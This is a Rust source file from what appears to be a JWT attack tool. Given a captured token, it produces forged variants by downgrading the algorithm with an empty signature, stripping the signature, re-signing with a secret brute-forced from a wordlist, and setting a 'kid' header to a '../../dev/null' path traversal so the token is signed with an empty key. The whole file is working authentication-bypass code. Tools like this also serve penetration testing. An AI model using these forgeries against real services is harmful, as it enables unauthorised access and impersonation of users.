//! Lazy forged-token generation

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

use super::{brute_force_secret, encode_object, join_segments, sign_hs256, Token};
use crate::app::ForgeConfig;

/// `kid` value that points HMAC key lookup at an empty file
pub const NULL_KEY_KID: &str = "../../../../../../../dev/null";

/// Forgery technique that produced a token
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum ForgeAttack {
    /// Header `alg` replaced, signature emptied
    AlgorithmDowngrade { alg: String },
    /// Original header kept, signature emptied
    SignatureStrip,
    /// Re-signed with a secret recovered from the wordlist
    WeakSecret { secret: String },
    /// HS256 signed with an empty key selected through a traversal `kid`
    KidTraversal,
}

impl ForgeAttack {
    pub fn name(&self) -> String {
        match self {
            ForgeAttack::AlgorithmDowngrade { alg } => format!("alg-downgrade ({})", alg),
            ForgeAttack::SignatureStrip => "signature-strip".to_string(),
            ForgeAttack::WeakSecret { .. } => "weak-secret".to_string(),
            ForgeAttack::KidTraversal => "kid-traversal".to_string(),
        }
    }
}

/// A forged token and the technique behind it
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ForgedToken {
    pub attack: ForgeAttack,
    pub token: String,
}

/// Produces forged variants of a captured token
#[derive(Debug, Clone, Default)]
pub struct TokenForge {
    settings: ForgeConfig,
}

impl TokenForge {
    pub fn new(settings: ForgeConfig) -> Self {
        Self { settings }
    }

    /// A fresh, finite sequence of forged variants for `token`.
    ///
    /// Variants are computed as the sequence is advanced; the secret
    /// brute force only runs when its variant is reached.
    pub fn attacks<'a>(&'a self, token: &'a Token) -> ForgeSequence<'a> {
        ForgeSequence {
            forge: self,
            token,
            payload_b64: payload_with_overrides(token, &self.settings.claim_overrides),
            stage: Stage::Downgrade(0),
        }
    }
}

/// Payload segment for forged variants; the original bytes are reused
/// verbatim unless claims are overridden
fn payload_with_overrides(token: &Token, overrides: &Map<String, Value>) -> String {
    if overrides.is_empty() {
        return token.payload_segment().to_string();
    }
    let mut payload = token.claims().payload.clone();
    for (key, value) in overrides {
        payload.insert(key.clone(), value.clone());
    }
    encode_object(&payload)
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Stage {
    Downgrade(usize),
    Strip,
    WeakSecret,
    KidTraversal,
    Done,
}

/// Iterator over forged variants, in the order downgrade values,
/// signature strip, weak secret, kid traversal
pub struct ForgeSequence<'a> {
    forge: &'a TokenForge,
    token: &'a Token,
    payload_b64: String,
    stage: Stage,
}

impl ForgeSequence<'_> {
    fn header_with(&self, entries: &[(&str, &str)]) -> String {
        let mut header = self.token.claims().header.clone();
        for (key, value) in entries {
            header.insert(key.to_string(), Value::String(value.to_string()));
        }
        encode_object(&header)
    }

    fn downgrade(&self, alg: &str) -> ForgedToken {
        ForgedToken {
            attack: ForgeAttack::AlgorithmDowngrade { alg: alg.to_string() },
            token: join_segments(&self.header_with(&[("alg", alg)]), &self.payload_b64, ""),
        }
    }

    fn strip(&self) -> ForgedToken {
        let header_b64 = if self.forge.settings.claim_overrides.is_empty() {
            self.token.header_segment().to_string()
        } else {
            self.header_with(&[])
        };
        ForgedToken {
            attack: ForgeAttack::SignatureStrip,
            token: join_segments(&header_b64, &self.payload_b64, ""),
        }
    }

    fn weak_secret(&self) -> Option<ForgedToken> {
        let secret = brute_force_secret(self.token, &self.forge.settings.wordlist)?;
        let header_b64 = self.header_with(&[("alg", "HS256")]);
        let signature = sign_hs256(&header_b64, &self.payload_b64, secret.as_bytes());
        Some(ForgedToken {
            attack: ForgeAttack::WeakSecret { secret },
            token: join_segments(&header_b64, &self.payload_b64, &signature),
        })
    }

    fn kid_traversal(&self) -> ForgedToken {
        let header_b64 = self.header_with(&[("alg", "HS256"), ("kid", NULL_KEY_KID)]);
        let signature = sign_hs256(&header_b64, &self.payload_b64, b"");
        ForgedToken {
            attack: ForgeAttack::KidTraversal,
            token: join_segments(&header_b64, &self.payload_b64, &signature),
        }
    }
}

impl Iterator for ForgeSequence<'_> {
    type Item = ForgedToken;

    fn next(&mut self) -> Option<Self::Item> {
        loop {
            match self.stage {
                Stage::Downgrade(index) => {
                    let algorithms = &self.forge.settings.downgrade_algorithms;
                    if let Some(alg) = algorithms.get(index) {
                        self.stage = Stage::Downgrade(index + 1);
                        return Some(self.downgrade(alg));
                    }
                    self.stage = Stage::Strip;
                }
                Stage::Strip => {
                    self.stage = Stage::WeakSecret;
                    return Some(self.strip());
                }
                Stage::WeakSecret => {
                    self.stage = Stage::KidTraversal;
                    if let Some(forged) = self.weak_secret() {
                        return Some(forged);
                    }
                }
                Stage::KidTraversal => {
                    self.stage = Stage::Done;
                    if self.forge.settings.kid_traversal {
                        return Some(self.kid_traversal());
                    }
                }
                Stage::Done => return None,
            }
        }
    }
}
